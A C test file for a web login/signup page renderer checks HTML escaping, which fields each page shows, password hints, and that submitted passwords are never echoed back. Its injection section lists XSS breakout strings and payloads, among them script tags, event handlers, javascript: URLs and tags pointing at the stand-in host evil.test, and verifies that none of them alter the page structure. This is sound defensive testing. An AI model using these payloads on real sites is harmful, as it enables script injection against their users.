/*
 * Pages: what is escaped, what is on which page, and that nothing that anybody
 * types, or that an administrator calls an app, is ever more than text.
 */
#include "web/page.h"

#include "tap.h"

/* ---------- rendering ---------- */

static void *
resize(void *data, size_t capacity)
{
	return realloc(data, capacity);
}

/* Write a page; to be freed. */
static char *
render(const WebPage *page)
{
	Html		html = {.resize = resize};

	page_write(page, &html);
	html.data = realloc(html.data, html.size + 1);
	html.data[html.size] = '\0';
	return html.data;
}

/* Write one text in HTML; good until the next call. */
static const char *
escaped(Span text)
{
	static Html html = {.resize = resize};

	html.size = 0;
	html_span(&html, text);
	html_add(&html, "");
	html_span(&html, (Span) {NULL, 0});
	html.data = realloc(html.data, html.capacity = html.size + 1);
	html.data[html.size] = '\0';
	return html.data;
}

static void
check_escapes(void)
{
	int			wrong = 0;

	for (int byte = 1; byte < 256; byte++)
	{
		char		text[] = {'a', byte, 'b', '\0'};
		const char *got = escaped((Span) {text, 3});
		bool		special = strchr("&<>\"'", byte) != NULL || byte == 0x7f ||
			(byte < 0x20 && byte != '\t' && byte != '\n');

		wrong += special != (strcmp(got, text) != 0);
	}
	is_int(wrong, 0, "every byte stands for itself, but for those of markup and control characters");
	is_string(escaped((Span) TEXT("<a href=\"x\" b='y'>&amp;</a>")),
			  "&lt;a href=&quot;x&quot; b=&#39;y&#39;&gt;&amp;amp;&lt;/a&gt;", "markup is escaped");
	is_string(escaped((Span) TEXT("a\0b\x1b" "c\rd")), "a\xef\xbf\xbd" "b\xef\xbf\xbd" "c\xef\xbf\xbd" "d",
			  "control characters are replaced");
	is_string(escaped((Span) {NULL, 0}), "", "nothing is nothing");
}

/* ---------- what is on which page ---------- */

static const FormRules email_rules = {true, FIELD_OPTIONAL, FIELD_HIDDEN, false, 8, true};
static const FormRules standard_rules = {false, FIELD_REQUIRED, FIELD_OPTIONAL, true, 1, false};
static const FormRules one_name_rules = {true, FIELD_EITHER, FIELD_HIDDEN, false, 8, true};
static const FormRules hidden_rules = {true, FIELD_HIDDEN, FIELD_REQUIRED, false, 12, false};

/* Check which fields a page has: those that are shown, * for required, and those that are carried. */
static void
check_inputs(PageKind kind, const FormRules *rules, const char *expected, const char *what)
{
	const Input *inputs[INPUTS_MAX];
	int			count = inputs_of(kind, rules, inputs);
	char		list[400] = "";

	for (int i = 0; i < count; i++)
		if (inputs[i]->label != NULL)
			sprintf(list + strlen(list), "%s%s%s", i ? " " : "", inputs[i]->name,
					input_rule(inputs[i], rules) == FIELD_REQUIRED ? "*" : "");
	is_string(list, expected, "fields of %s", what);
}

static void
check_all_inputs(void)
{
	check_inputs(PAGE_SIGNUP, &email_rules, "first_name last_name email* password*", "signup, emails");
	check_inputs(PAGE_SIGNUP, &standard_rules,
				 "first_name* last_name* org_name username* email* password* password_confirmation*",
				 "signup, usernames");
	check_inputs(PAGE_SIGNUP, &one_name_rules, "first_name last_name email* password*", "signup, N4: one name is enough");
	check_inputs(PAGE_SIGNUP, &hidden_rules, "org_name* email* password*", "signup, no names");
	check_inputs(PAGE_LOGIN, &email_rules, "login* password*", "login");
	check_inputs(PAGE_FORGOT, &standard_rules, "login*", "forgot");
	check_inputs(PAGE_RESET, &email_rules, "password*", "reset");
	check_inputs(PAGE_RESET, &standard_rules, "password* password_confirmation*", "reset, twice");
	check_inputs(PAGE_VERIFY, &email_rules, "", "verify");
	check_inputs(PAGE_LOGOUT, &email_rules, "", "logout");
}

/* Check that a page has, or has not, a piece of markup. */
static void
check_markup(PageKind kind, const FormRules *rules, const char *form, const char *piece, bool expected, const char *what)
{
	WebPage		page = {.heading = "Heading", .stylesheet = "/s.css", .action = "/a", .button = "Send"};
	char	   *buffer = malloc(strlen(form) + 1);
	char	   *html;

	page_set_inputs(&page, kind, rules);
	(void) page_read_form(&page, (Span) {form, strlen(form)}, buffer);
	page_check(&page);
	html = render(&page);
	is_int(strstr(html, piece) != NULL, expected, "%s: %s", what, piece);
	free(html);
	free(buffer);
}

static void
check_pages(void)
{
	check_markup(PAGE_SIGNUP, &email_rules, "", "At least 8 characters, and hard to guess", true, "what a password needs");
	check_markup(PAGE_SIGNUP, &standard_rules, "", "At least 1 character.", true, "... one character");
	check_markup(PAGE_RESET, &hidden_rules, "", "At least 12 characters.", true, "... on the reset page");
	check_markup(PAGE_LOGIN, &email_rules, "", "At least", false, "... but not on the login page");
	check_markup(PAGE_SIGNUP, &email_rules, "", "autocomplete=\"new-password\"", true, "signup");
	check_markup(PAGE_SIGNUP, &email_rules, "", "current-password", false, "signup");
	check_markup(PAGE_LOGIN, &email_rules, "", "autocomplete=\"current-password\"", true, "login");
	check_markup(PAGE_LOGIN, &email_rules, "", "new-password", false, "login");
	check_markup(PAGE_RESET, &email_rules, "token=t", "<input type=\"hidden\" name=\"token\" value=\"t\">", true, "reset");
	check_markup(PAGE_SIGNUP, &email_rules, "email=a%40b", "value=\"a@b\"", true, "what was typed");
	check_markup(PAGE_SIGNUP, &email_rules, "password=canary", "canary", false, "a password is not sent back");
	check_markup(PAGE_LOGIN, &email_rules, "password=canary", "canary", false, "... from a login");
	check_markup(PAGE_RESET, &standard_rules, "password=canary&password_confirmation=canary", "canary", false,
				 "... from a reset");
	check_markup(PAGE_SIGNUP, &email_rules, "email=a&email=b", "<a href=\"#email\">This was sent more than once.</a>", true,
				 "sent twice");
	check_markup(PAGE_SIGNUP, &email_rules, "email=a&email=b", "aria-invalid=\"true\" aria-describedby=\"email-error\" autofocus",
				 true, "sent twice");
	check_markup(PAGE_SIGNUP, &email_rules, "redir=a&redir=b", "name=\"redir\"", false, "carried twice");
	check_markup(PAGE_SIGNUP, &email_rules, "redir=a&redir=b", "<li>This was sent more than once.</li>", true, "carried twice");
	check_markup(PAGE_SIGNUP, &email_rules, "email=a&email=b", "<title>Error: Heading</title>", true, "sent twice");
	check_markup(PAGE_SIGNUP, &email_rules, "", "Error:", false, "nothing wrong");
	check_markup(PAGE_SIGNUP, &email_rules, "org_name=x&username=y&x=z", "value", false, "fields that the page has not");
}

/* ---------- injections ---------- */

/* How one might get out of where the text stands ... */
static const char *const escapes[] = {
	"", "\"", "'", ">", "\">", "'>", "\"'>", "</title>", "</h1>", "</p>", "</a>", "</label>", "</option>", "</style>",
	"</script>", "-->", "]]>", "&quot;>", "&#34;>", "\n", "\r\n\r\n", "\\\"", "%22%3E", "`", "\xe2\x80\xa8", "\xef\xbc\x9e",
};

/* ... and what one might do outside. */
static const char *const payloads[] = {
	"<script>alert(1)</script>", "<ScRiPt src=//evil.test></sCrIpT>", "<script\n>alert(1)</script\n>",
	"<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
	"<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>",
	" onfocus=alert(1) autofocus x=", " onmouseover=\"alert(1)\" x=\"", " style=animation-name:x onanimationstart=alert(1)",
	"<style>@import'//evil.test'</style>", "<link rel=stylesheet href=//evil.test>", "<meta http-equiv=refresh content=0>",
	"<base href=//evil.test>", "<form action=//evil.test><input>", "<button formaction=javascript:alert(1)>",
	"<!--", "<![CDATA[", "<?xml?>", "<%=1%>", "{{7*7}}", "${alert(1)}", "javascript:alert(1)", "<math><mi xlink:href=x>",
};

/* Copy the skeleton of HTML: tags and names of attributes, without any text or value. False if it is not well-formed. */
static bool
skeleton(const char *html, char *out)
{
	while (*html)
	{
		if (*html != '<')
		{
			if (*html == '>' || *html == '"' || *html == '\'')
				return false;
			html++;
			continue;
		}
		for (; *html != '>'; html++)
		{
			if (*html == '\0')
				return false;
			*out++ = *html;
			if (*html != '"')
				continue;
			for (html++; *html != '"'; html++)
				if (*html == '\0' || *html == '<' || *html == '>' || *html == '\'')
					return false;
		}
		*out++ = *html++;
	}
	*out = '\0';
	return true;
}

/* Fill a page of a kind with one text wherever text of somebody else's may come. */
static void
fill_page(WebPage *page, PageKind kind, const FormRules *rules, const char *text)
{
	Span		span = {text, strlen(text)};

	*page = (WebPage) {
		.app_name = text, .external_css = text, .stylesheet = text, .heading = text, .text = text,
		.action = text, .button = text, .choice = text
	};
	page_set_inputs(page, kind, rules);
	for (int i = 0; i < page->input_count; i++)
	{
		page_set_value(page, page->inputs[i]->name, span);
		page_add_fault(page, page->inputs[i]->name, text);
	}
	page_add_fault(page, text, text);
	page_add_link(page, text, text, text);
}

/* Return how many injections change what kinds of things are on a page. */
static int
injections(PageKind kind, const FormRules *rules, int *tried)
{
	static char expected[20000];
	static char got[200000];
	WebPage		page;
	char	   *html;
	int			wrong = 0;

	fill_page(&page, kind, rules, "harmless");
	html = render(&page);
	if (!skeleton(html, expected))
		return -1;
	free(html);
	for (size_t i = 0; i < lengthof(escapes); i++)
		for (size_t j = 0; j < lengthof(payloads); j++)
		{
			char		text[200];

			sprintf(text, "%s%s", escapes[i], payloads[j]);
			fill_page(&page, kind, rules, text);
			html = render(&page);
			++*tried;
			if ((!skeleton(html, got) || strcmp(got, expected) != 0) && wrong++ == 0)
				diag("%s", text);
			free(html);
		}
	return wrong;
}

static void
check_injections(void)
{
	static const FormRules *const rules[] = {&email_rules, &standard_rules, &hidden_rules};
	int			tried = 0;

	for (int kind = 0; kind < PAGE_KINDS; kind++)
		for (size_t i = 0; i < lengthof(rules); i++)
			is_int(injections(kind, rules[i], &tried), 0, "page %d, rules %zu: no injection does anything", kind, i);
	ok(tried / PAGE_KINDS / (int) lengthof(rules) >= 500, "%d strings were tried on every page", tried / PAGE_KINDS / 3);
}

/* Check that the operator's own HTML stays what it is, and that there can be too many faults. */
static void
check_own(void)
{
	WebPage		page = {.heading = "H", .stylesheet = "s", .header_html = "<b>above</b>", .footer_html = "<i>below</i>"};
	char	   *html;

	for (int i = 0; i < FAULTS_MAX + 5; i++)
		page_add_fault(&page, NULL, "fault");
	for (int i = 0; i < LINKS_MAX + 5; i++)
		page_add_link(&page, NULL, "link", "url");
	html = render(&page);
	ok(strstr(html, "<header>\n<b>above</b>\n</header>\n<main>") != NULL, "HTML above");
	ok(strstr(html, "</main>\n<footer>\n<i>below</i>\n</footer>") != NULL, "HTML below");
	is_int(page.fault_count, FAULTS_MAX, "as many faults as there is room for");
	is_int(page.link_count, LINKS_MAX, "as many links");
	ok(strstr(html, "<form") == NULL, "no form where there is none");
	free(html);
}

int
main(void)
{
	plan(4 + 10 + 20 + 3 * PAGE_KINDS + 1 + 5);
	check_escapes();
	check_all_inputs();
	check_pages();
	check_injections();
	check_own();
	return tap_status();
}
